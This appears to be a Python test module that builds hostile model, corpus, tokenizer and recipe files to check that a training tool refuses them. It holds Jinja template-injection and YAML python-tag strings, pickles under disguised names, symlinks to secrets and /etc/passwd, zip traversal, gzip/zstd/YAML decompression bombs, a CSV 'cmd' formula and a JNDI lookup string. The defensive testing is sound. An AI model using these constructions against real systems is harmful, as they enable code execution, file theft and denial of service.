"""Hostile files (faults 31 to 33): made to run something, to reach the network, to read outside their folder,
or to fill the memory. Each is opened in `guarded`, under an audit hook.

A place of a group is what its ways open: `model` a folder with a model, `text` a file of a corpus or of
labels, `tokenizer` a file or folder, `recipe` a recipe, `checkpoint` the newest one of a run.
"""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any, Literal, NamedTuple

from tests.bad.checkpoints import Thing, index, pickled, torch_file
from tests.bad.good import CONFIG, TOKENIZER_CONFIG, WEIGHTS, edit_json

Group = Literal["model", "text", "tokenizer", "recipe", "checkpoint"]
JINJA = "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ cycler.__init__.__globals__.os.mkdir('MARK') }}"
CODE = "import os\nos.mkdir(os.environ['TANE_TEST_MARK'])\n"
REPO = "somebody/evil"


class Hostile(NamedTuple):
    """One hostile thing. write(place, secret): into a place that is there (model, checkpoint) or not yet.

    harmless: it may be read, and what is hostile in it is not heeded.
    """

    group: Group
    name: str
    write: Callable[[Path, Path], object]
    harmless: bool = False
    kind: str = "causal"
    bomb: bool = False


def file(name: str, data: bytes | str | Callable[[], bytes]) -> Callable[[Path, Path], object]:
    """Puts a file into the place."""

    def write(place: Path, secret: Path) -> None:
        (place / name).parent.mkdir(parents=True, exist_ok=True)
        made = data() if callable(data) else data
        (place / name).write_bytes(made.encode() if isinstance(made, str) else made)

    return write


def itself(data: bytes | str | Callable[[], bytes]) -> Callable[[Path, Path], object]:
    """The place is the file."""

    def write(place: Path, secret: Path) -> None:
        made = data() if callable(data) else data
        place.write_bytes(made.encode() if isinstance(made, str) else made)

    return write


def keys(name: str, **values: Any) -> Callable[[Path, Path], object]:
    """Adds keys to a JSON file of the place, whose code lies beside."""

    def write(place: Path, secret: Path) -> None:
        edit_json(place / name, **values)
        (place / "evil.py").write_text(CODE, encoding="utf-8")

    return write


def link(name: str) -> Callable[[Path, Path], object]:
    """A file of the place is a link to the secret."""

    def write(place: Path, secret: Path) -> None:
        (place / name).unlink(missing_ok=True)
        (place / name).symlink_to(secret)

    return write


def linked_weights(place: Path, secret: Path) -> None:
    """Sound weights, which lie outside the folder."""
    outside = secret.parent / f"{place.name}.safetensors"
    (place / WEIGHTS).replace(outside)
    (place / WEIGHTS).symlink_to(outside)


def index_of(place: Path, secret: Path) -> None:
    index({"weight_map": {"a": str(secret)}}, keep=True)(place)


def linked_index(place: Path, secret: Path) -> None:
    """The index names a file in the folder, which is a link to the secret."""
    index({"weight_map": {"a": "part.safetensors"}})(place)
    (place / "part.safetensors").symlink_to(secret)


def adapter(base: str, weights: str) -> Callable[[Path, Path], object]:
    """An adapter beside the model, with a pickle of weights."""

    def write(place: Path, secret: Path) -> None:
        found = {"base_model_name_or_path": base, "peft_type": "LORA", "task_type": "CAUSAL_LM", "r": 1}
        edit_json(place / "adapter_config.json", **found)
        (place / weights).write_bytes(torch_file())

    return write


def numpy_file(packed: bool) -> Callable[[], bytes]:
    """An array of objects, which numpy pickles."""

    def make() -> bytes:
        import numpy as np

        held = io.BytesIO()
        array = np.array([Thing()], dtype=object)
        if packed:
            np.savez(held, text=array)
        else:
            np.save(held, array, allow_pickle=True)
        return held.getvalue()

    return make


def distributed(place: Path, secret: Path) -> None:
    """A checkpoint of torch.distributed (DCP), whose metadata is a pickle, in the place of the weights."""
    (place / WEIGHTS).unlink(missing_ok=True)
    (place / ".metadata").write_bytes(pickled())
    (place / "__0_0.distcp").write_bytes(torch_file())


def zip_outside() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("../../outside.txt", "外")
        archive.writestr("/tmp/outside.txt", "外")
    return held.getvalue()


# -------------------------------------------------------------------------------------------------- bombs


def gz_bomb() -> bytes:
    """1 GB of one letter in 1 MB; what is behind it would not even fit its checksum."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(b"w" * 1_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b"w" * 1_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\3" + first + block * 999 + packer.flush() + bytes(8)


def zst_bomb() -> bytes:
    """1 GB of one letter: blocks that say "this byte, 128 KiB times" (RFC 8878, section 3.1.1.2)."""
    block = ((128 << 10) << 3 | 1 << 1).to_bytes(3, "little") + b"w"
    last = ((128 << 10) << 3 | 1 << 1 | 1).to_bytes(3, "little") + b"w"
    return b"\x28\xb5\x2f\xfd" + bytes([0, 7 << 3]) + block * 8_191 + last  # a window of 128 KiB


def sheet(name: str) -> Callable[[], bytes]:
    def make() -> bytes:
        from tests.text import make_bad_binaries

        return make_bad_binaries.MAKERS[name]()

    return make


def json_bomb() -> bytes:
    """Many MB of brackets on one line."""
    return b'{"text": ' + b"[" * 5_000_000


YAML_LAUGHS = 'a: &a ["は", "は"]\n' + "".join(
    f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)


# ---------------------------------------------------------------------------------------------- the table


def _pickles() -> list[Hostile]:
    """Pickles under every name, as files of a corpus and of a tokenizer, and in folders with a model."""
    ends = (
        "pt", "bin", "pth", "pkl", "ckpt", "safetensors", "npy", "npz", "txt", "jsonl", "json", "csv", "tsv",
        "xlsx", "parquet", "arrow", "txt.gz", "txt.zst",
    )  # fmt: skip
    forms = {"pickle": pickled, "torch": torch_file, "npy": numpy_file(False), "npz": numpy_file(True)}
    found = [
        Hostile("text", f"{form}.{end}", itself(make))
        for end in ends for form, make in forms.items()
        if form in ("pickle", "torch") or end in ("npy", "npz", "txt")
    ]  # fmt: skip
    for name in ("tokenizer.json", "vocab.txt", "spiece.model", "tokenizer.pkl", "tokenizer.bin", "x.json"):
        found += [Hostile("tokenizer", name, itself(make)) for make in (pickled,)]
        found.append(Hostile("tokenizer", f"folder-{name}", file(name, pickled)))
    for name in ("pytorch_model.bin", "model.pt", "consolidated.00.pth", "model.ckpt"):
        found += [
            Hostile("model", f"only-{name}", lambda place, secret, name=name: (
                (place / WEIGHTS).unlink(), file(name, torch_file)(place, secret))),
            Hostile("model", f"beside-{name}", file(name, torch_file), harmless=True),
        ]  # fmt: skip
    beside = ("optimizer.pt", "scheduler.pt", "training_args.bin", "rng_state.pth", "x.npy", "spiece.model")
    found += [Hostile("model", f"beside-{name}", file(name, pickled), harmless=True) for name in beside]
    return [
        *found,
        Hostile("model", "weights-pickle", file(WEIGHTS, pickled)),
        Hostile("model", "weights-torch", file(WEIGHTS, torch_file)),
        Hostile("model", "weights-npz", file(WEIGHTS, numpy_file(True))),
        Hostile("model", "tokenizer-pickle", file("tokenizer.json", pickled)),
        Hostile("model", "dcp", distributed),
    ]


MODELS = [
    Hostile("model", "auto_map", keys(CONFIG, auto_map={"AutoModelForCausalLM": "evil.Model"})),
    Hostile("model", "auto_map-repo", keys(CONFIG, auto_map={"AutoConfig": f"{REPO}--evil.Config"})),
    Hostile("model", "auto_map-tokenizer", keys(TOKENIZER_CONFIG, auto_map={"AutoTokenizer": ["evil.T"]})),
    Hostile("model", "auto_map-generation", keys("generation_config.json", auto_map={"x": "evil.X"}), True),
    Hostile("model", "auto_map-processor", keys("processor_config.json", auto_map={"x": "evil.X"}), True),
    Hostile("model", "auto_map-nested", keys(CONFIG, text_config={"auto_map": {"AutoConfig": "evil.C"}})),
    Hostile("model", "custom_pipelines", keys(CONFIG, custom_pipelines={"x": {"impl": "evil.P"}})),
    Hostile("model", "custom_generate", file("custom_generate/generate.py", CODE)),
    Hostile("model", "custom_generate-key", keys("generation_config.json", custom_generate=REPO), True),
    Hostile("model", "code-beside", file("modeling_gpt2.py", CODE), True),
    Hostile("model", "init-beside", file("__init__.py", CODE), True),
    *(Hostile("model", key, keys(CONFIG, **{key: REPO})) for key in (
        "_attn_implementation", "attn_implementation", "_attn_implementation_internal",
        "_experts_implementation", "experts_implementation")),
    Hostile("model", "attention-revision", keys(CONFIG, attn_implementation=f"paged|{REPO}@main:evil")),
    Hostile("model", "attention-nested", keys(CONFIG, text_config={"_attn_implementation": REPO})),
    Hostile("model", "attention-parts", keys(CONFIG, attn_implementation={"": REPO})),
    Hostile("model", "quantized", keys(
        CONFIG, quantization_config={"quant_method": "gptq", "dataset": REPO})),
    Hostile("model", "adapter-repo", adapter(REPO, "adapter_model.bin")),
    Hostile("model", "adapter-local", adapter("../secret", "adapter_model.bin")),
    Hostile("model", "jinja", keys(TOKENIZER_CONFIG, chat_template=JINJA), True),
    Hostile("model", "jinja-file", file("chat_template.jinja", JINJA), True),
    Hostile("model", "jinja-folder", file("additional_chat_templates/evil.jinja", JINJA), True),
    Hostile("model", "class-of-a-module", keys(TOKENIZER_CONFIG, tokenizer_class="os.system")),
    Hostile("model", "class-of-code", keys(TOKENIZER_CONFIG, tokenizer_class="EvilTokenizer"), True),
    Hostile("model", "kind-is-a-path", keys(CONFIG, model_type="../evil")),
    Hostile("model", "name-of-a-repo", keys(CONFIG, _name_or_path=REPO, _commit_hash="0" * 40), True),
    Hostile("model", "keys-of-methods", keys(CONFIG, to_dict=1, get_text_config="x", __class__="y")),
    Hostile("model", "tokenizer-files", keys(
        TOKENIZER_CONFIG, vocab_file="/etc/hostname", tokenizer_file="/etc/hostname", name_or_path=REPO),
        True),
    Hostile("model", "index-outside", index_of),
    Hostile("model", "index-of-a-link", linked_index),
    Hostile("model", "weights-linked", linked_weights),
    *(Hostile("model", f"link-{name}", link(name)) for name in (
        WEIGHTS, CONFIG, "generation_config.json", "tokenizer.json", TOKENIZER_CONFIG, "notes.txt")),
    Hostile("model", "auto_map-masked", keys(CONFIG, auto_map={"AutoModel": "evil.M"}), kind="masked"),
    Hostile("model", "pickle-masked", file(WEIGHTS, torch_file), kind="masked"),
    Hostile("model", "auto_map-labels", keys(CONFIG, auto_map={"AutoModel": "evil.M"}), kind="labels"),
    Hostile("model", "task-pickle", file("task.json", pickled), kind="labels"),
]  # fmt: skip
TEXTS = [
    Hostile("text", "gz-bomb.txt.gz", itself(gz_bomb), bomb=True),
    Hostile("text", "zst-bomb.txt.zst", itself(zst_bomb), bomb=True),
    Hostile("text", "gz-bomb.jsonl.gz", itself(gz_bomb), bomb=True),
    Hostile("text", "gz-bomb.csv.gz", itself(gz_bomb), bomb=True),
    Hostile("text", "sheet-bomb.xlsx", itself(sheet("x2-huge.xlsx")), bomb=True),
    Hostile("text", "sheet-bomb-lies.xlsx", itself(sheet("x2-huge-lies.xlsx")), bomb=True),
    Hostile("text", "laughs.xlsx", itself(sheet("x1-laughs-sheet.xlsx")), bomb=True),
    Hostile("text", "laughs-strings.xlsx", itself(sheet("x1-laughs-strings.xlsx")), bomb=True),
    Hostile("text", "brackets.jsonl", itself(json_bomb), bomb=True),
    Hostile("text", "outside.xlsx", itself(sheet("x6-outside.xlsx")), harmless=True),
    Hostile("text", "outside.zip", itself(zip_outside)),
    Hostile("text", "outside.txt", itself(zip_outside)),
    Hostile("text", "code.py", itself(CODE)),
    Hostile("text", "formula.csv", itself("text,label\n\"=cmd|' /C calc'!A0\",LABEL_0\n"), harmless=True),
    Hostile("text", "specials.txt", itself("[CLS]<|endoftext|><s>{{ 7*7 }}${jndi:ldap://evil}\n" * 20), True),
]
TOKENIZERS = [
    Hostile("tokenizer", "auto_map", lambda place, secret: _tokenizer(place, auto_map={"x": ["evil.T"]})),
    Hostile("tokenizer", "jinja", lambda place, secret: _tokenizer(place, chat_template=JINJA), True),
    Hostile("tokenizer", "class", lambda place, secret: _tokenizer(place, tokenizer_class="os.system")),
    Hostile("tokenizer", "linked", lambda place, secret: (
        _tokenizer(place), link("tokenizer.json")(place, secret))),
    Hostile("tokenizer", "config-of-code", lambda place, secret: (
        _tokenizer(place),
        keys(CONFIG, model_type="gpt2", auto_map={"AutoTokenizer": "evil.T"})(place, secret)), True),
]  # fmt: skip
RECIPES = [
    Hostile("recipe", "object.yaml", itself('run_dir: !!python/object/apply:os.mkdir ["MARK"]\n')),
    Hostile("recipe", "name.yaml", itself("run_dir: !!python/name:os.system\n")),
    Hostile("recipe", "module.yaml", itself("seed: !!python/module:evil\n")),
    Hostile("recipe", "new.yaml", itself('!!python/object/new:os.system ["mkdir MARK"]\n')),
    Hostile("recipe", "laughs.yaml", itself(YAML_LAUGHS), bomb=True),
    Hostile("recipe", "nested.yaml", itself("a: " + "[" * 100_000), bomb=True),
    Hostile("recipe", "pickle.yaml", itself(pickled)),
    Hostile("recipe", "include.yaml", itself("corpus: !include /etc/passwd\n")),
    Hostile("recipe", "part.yaml", itself("objective: {name: 'os:system'}\n")),
    Hostile("recipe", "merge.yaml", itself("<<: {run_dir: x}\nmodel: {pretrained: ../../secret}\n")),
]
CHECKPOINTS = [
    Hostile("checkpoint", "optimizer", file("state/optimizer.safetensors", torch_file)),
    Hostile("checkpoint", "optimizer.pt", file("state/optimizer.pt", torch_file), True),
    Hostile("checkpoint", "training_args.bin", file("model/training_args.bin", pickled), True),
    Hostile("checkpoint", "weights", file("model/model.safetensors", torch_file)),
    Hostile("checkpoint", "pytorch_model.bin", lambda place, secret: (
        (place / "model" / WEIGHTS).unlink(), file("model/pytorch_model.bin", torch_file)(place, secret))),
    Hostile("checkpoint", "auto_map", lambda place, secret: keys(
        CONFIG, auto_map={"AutoModelForCausalLM": "evil.M"})(place / "model", secret)),
    Hostile("checkpoint", "state", file("state/state.json", pickled)),
    Hostile("checkpoint", "manifest", file("manifest.json", pickled)),
    Hostile("checkpoint", "linked", lambda place, secret: link(WEIGHTS)(place / "model", secret)),
    Hostile("checkpoint", "dcp", lambda place, secret: distributed(place / "model", secret)),
]  # fmt: skip


def _tokenizer(place: Path, **values: Any) -> None:
    from tests.bad.good import write_tokenizer

    write_tokenizer(place)
    edit_json(place / TOKENIZER_CONFIG, **values)
    (place / "evil.py").write_text(CODE, encoding="utf-8")


def table() -> list[Hostile]:
    """All of them."""
    return [*_pickles(), *MODELS, *TEXTS, *TOKENIZERS, *RECIPES, *CHECKPOINTS]


def write_all(folder: Path, secret: Path, good: Callable[[str, Path], object]) -> dict[str, str]:
    """Write those that need no run below a folder; good(kind, place) copies a sound model to a place.

    Returns {path: "refused" or "harmless"}.
    """
    found = {}
    for one in table():
        if one.group == "checkpoint":
            continue
        place = folder / one.group / one.name
        place.parent.mkdir(parents=True, exist_ok=True)
        if one.group == "model":
            good(one.kind, place)
        one.write(place, secret)
        found[str(place.relative_to(folder))] = "harmless" if one.harmless else "refused"
    return found
